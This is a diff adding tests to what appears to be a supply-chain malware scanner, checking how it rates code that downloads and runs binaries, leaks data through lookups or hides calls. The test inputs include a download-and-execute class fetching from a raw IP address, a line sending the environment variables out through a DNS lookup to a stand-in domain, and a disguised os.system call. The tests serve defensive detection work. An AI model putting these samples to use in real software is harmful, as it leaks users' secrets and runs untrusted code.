@@ -380,3 +380,56 @@ test('a statement behind a hundred blanks hides something where it reaches out',
   assert.ok((await malice(line('if (!isKnown(item)) {'))).includes('medium supply-chain-hidden-code'));
   assert.ok((await malice(line('require("https").get(u)'))).includes('critical supply-chain-hidden-code'));
 });
+
+test('a program that says that it downloads its own binary is weighed lightly', () => {
+  const install = (says: string, url: string) => `class Binary {
+  constructor() {
+    this.url = ${url};
+  }
+  async install(isQuiet) {
+    ${says}
+    const answer = await fetch(this.url);
+    writeFileSync(this.binaryPath, Buffer.from(await answer.arrayBuffer()), { mode: 0o755 });
+  }
+  run() {
+    spawnSync(this.binaryPath, process.argv.slice(2));
+  }
+}
+`;
+  const judged = (text: string) =>
+    readActs({ path: 'lib/a.js', text, language: 'javascript', context: 'runtime' }).map(({ kind, confidence }) => [
+      kind,
+      confidence,
+    ]);
+  const says = 'if (!isQuiet) console.error(`Downloading release from ${this.url}`);';
+  assert.deepEqual(judged(install(says, 'releaseUrl()')), [['dropped-execution', 'low']]);
+  assert.deepEqual(judged(install('', 'releaseUrl()')), [['dropped-execution', 'high']]);
+  assert.deepEqual(judged(install(says, "'http://45.77.12.90/agent'")), [
+    ['shady-contact', 'medium'],
+    ['dropped-execution', 'high'],
+  ]);
+});
+
+test('a host that was found out in many steps is looked up, and nothing is sent', () => {
+  const steps = `def run(args):
+    return subprocess.run(args, env=dict(os.environ), capture_output=True).stdout
+
+def info():
+    return json.loads(run(["podman", "info"]))
+
+def host():
+    return info()["host"]["remote"]
+
+def name():
+    return host().split("@")[1]
+`;
+  assert.deepEqual(python(`${steps}address = socket.gethostbyname(name())\n`), []);
+  assert.deepEqual(python('data = str(os.environ)\nsocket.gethostbyname(data + ".c.example.net")\n'), [
+    'environment-sent',
+  ]);
+});
+
+test('a method that is kept to be put back is not called in disguise', () => {
+  assert.deepEqual(python('import_module("x")\nkept = db.Connection.__dict__["connect"]\n'), []);
+  assert.deepEqual(python('import os as o\no.__dict__["system"]("id")\n'), ['disguised-call']);
+});
